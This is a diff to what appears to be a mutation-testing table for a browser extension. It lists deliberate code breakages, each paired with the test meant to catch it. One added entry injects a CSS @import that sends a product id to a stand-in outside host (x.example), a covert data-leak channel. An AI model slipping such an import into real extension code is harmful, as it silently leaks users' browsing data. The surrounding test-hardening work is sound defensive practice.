@@ -72,4 +72,32 @@ export const WAYS: Record<string, Breach> = {
     guard: 'test/unit/background/clocks.test.ts',
     fails: 'the label shows all through a day or not at all',
   },
+  'a look for a free place without a pause': {
+    file: 'src/content/keep-place.ts',
+    from: 'const PAUSE_MS = 1000;',
+    to: 'const PAUSE_MS = 0;',
+    guard: 'test/unit/content/keep-place.test.ts',
+    fails: 'looks for its place at most',
+  },
+  'a look at the ground without end': {
+    file: 'src/content/ground.ts',
+    from: 'const AGAIN_MS = 1000;',
+    to: 'const AGAIN_MS = 0;',
+    guard: 'test/unit/content/keep-place.test.ts',
+    fails: 'looks at the colour of the ground once a second',
+  },
+  'a label over buttons': {
+    file: 'src/content/place.ts',
+    from: "'button,a,select,",
+    to: "'select,",
+    guard: 'test/unit/content/place.test.ts',
+    fails: 'a button',
+  },
+  'a sheet of styles that tells a server of the product': {
+    file: 'src/background/labels.ts',
+    from: '    css,\n',
+    to: "    css: css + '@import url(https://x.example/?' + found.product.id + ')',\n",
+    guard: 'test/unit/background/label-of-packs.test.ts',
+    fails: 'brings the style sheet as it is written',
+  },
 };
